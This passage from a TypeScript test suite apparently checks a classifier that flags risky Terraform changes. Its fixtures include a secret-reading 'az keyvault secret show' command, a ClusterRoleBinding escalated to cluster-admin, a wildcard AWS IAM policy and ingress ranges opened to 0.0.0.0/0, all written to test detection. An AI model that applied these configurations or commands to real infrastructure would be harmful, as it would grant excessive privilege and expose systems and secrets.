      'variable "ns" {}\nresource "null_resource" "feature" {\n  provisioner "local-exec" {\n    command = "az feature register --namespace ${var.ns}"\n  }\n}\n';
    const result = classify(
      { 'main.tf': code, 'ci/scenarios.json': '["a"]' },
      { 'main.tf': code, 'ci/scenarios.json': '["a", "b"]' },
    );
    expect(result.findings.map((f) => f.ruleId)).not.toContain('terraform-control.terraform.provisioner');
  });

  it.each<[string, string, string, boolean]>([
    [
      'a whole command given by a variable (bash -c var.cmd) may run a changed script',
      '["bash", "-c", var.cmd]',
      'scripts/deploy.sh',
      true,
    ],
    [
      'but a changed file that is no script by its name (a test file) is not what it runs',
      '["bash", "-c", var.cmd]',
      'tests/a.tftest.hcl',
      false,
    ],
    [
      "an argument inside bash -c's command (az … --id '${var.cmd}') names no script",
      '["bash", "-c", "az keyvault secret show --id \'${var.cmd}\'"]',
      'scripts/deploy.sh',
      false,
    ],
  ])('%s', (_name, program, path, runs) => {
    const code = `variable "cmd" {}\ndata "external" "x" {\n  program = ${program}\n}\n`;
    const result = classify({ 'main.tf': code, [path]: 'echo 1\n' }, { 'main.tf': code, [path]: 'echo 2\n' });
    expect(result.findings.some((f) => f.ruleId === 'terraform-control.terraform.external-program')).toBe(runs);
  });

  it.each<[string, string]>([
    ['a config file', 'config/app.json'],
    ["a tool's settings (a pre-commit config)", '.pre-commit-config.yaml'],
  ])('quiet guard: %s the command cannot spell is not assumed run, nor reported as maybe read by it', (_name, path) => {
    const code =
      'variable "name" {}\nresource "null_resource" "deploy" {\n  provisioner "local-exec" {\n    command = "bash ${path.module}/scripts/${var.name}.sh && aws s3 sync ${path.module}/out s3://${var.name}"\n  }\n}\n';
    const result = classify({ 'main.tf': code, [path]: 'a: 1\n' }, { 'main.tf': code, [path]: 'a: 2\n' });
    expect(result.findings).toEqual([]);
  });
});

describe('a text read through a path known only at apply time is decoded too: any of the files it may name', () => {
  const binding = (role: string) =>
    `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: ci\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: ${role}\nsubjects:\n  - kind: ServiceAccount\n    name: ci\n    namespace: ci\n`;
  const manifest = 'variable "f" {}\nresource "kubernetes_manifest" "rb" {\n  manifest = yamldecode(file(var.f))\n}\n';
  const release =
    'variable "values_file" {}\nresource "helm_release" "ingress" {\n  name       = "ingress"\n  repository = "https://kubernetes.github.io/ingress-nginx"\n  chart      = "ingress-nginx"\n  values     = [file(var.values_file)]\n}\n';
  const ranges = (cidr: string) => `controller:\n  service:\n    loadBalancerSourceRanges: ["${cidr}"]\n`;
  it.each<[string, string, Record<string, string>, Record<string, string>, string]>([
    [
      'yamldecode of one changed manifest (before: low)',
      manifest,
      { 'k8s/rb.yaml': binding('view') },
      { 'k8s/rb.yaml': binding('cluster-admin') },
      'identity.kubernetes.manifest-cluster-admin',
    ],
    [
      'yamldecode where two changed manifests may be the one read (before: low)',
      manifest,
      { 'k8s/rb.yaml': binding('view'), 'k8s/other.yaml': binding('view') },
      { 'k8s/rb.yaml': binding('cluster-admin'), 'k8s/other.yaml': binding('edit') },
      'identity.kubernetes.manifest-cluster-admin',
    ],
    [
      'jsondecode of a templatefile whose path is known only at apply time (before: high)',
      'variable "t" {}\nresource "aws_iam_policy" "p" {\n  policy = jsonencode(jsondecode(templatefile(var.t, { bucket = "b" })))\n}\n',
      {
        'policies/p.tftpl':
          '{"Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::${bucket}/*"}]}',
      },
      { 'policies/p.tftpl': '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}' },
      'identity.aws.wildcard-action',
    ],
    [
      "a Helm release's values file (before: medium)",
      release,
      { 'values/prod.yaml': ranges('10.0.0.0/8') },
      { 'values/prod.yaml': ranges('0.0.0.0/0') },
      'modules.helm.values-open-world',
    ],
    [
      "a Helm release's values, two changed files it may name (before: medium)",
      release,
      { 'values/prod.yaml': ranges('10.0.0.0/8'), 'values/dev.yaml': ranges('10.1.0.0/16') },
      { 'values/prod.yaml': ranges('0.0.0.0/0'), 'values/dev.yaml': ranges('10.2.0.0/16') },
      'modules.helm.values-open-world',
    ],
  ])('%s: critical', (_name, code, base, head, rule) => {
    const result = classify({ 'main.tf': code, ...base }, { 'main.tf': code, ...head });
    expect(result.tier).toBe('critical');
    expect(result.findings.map((f) => f.ruleId)).toContain(rule);
  });
});
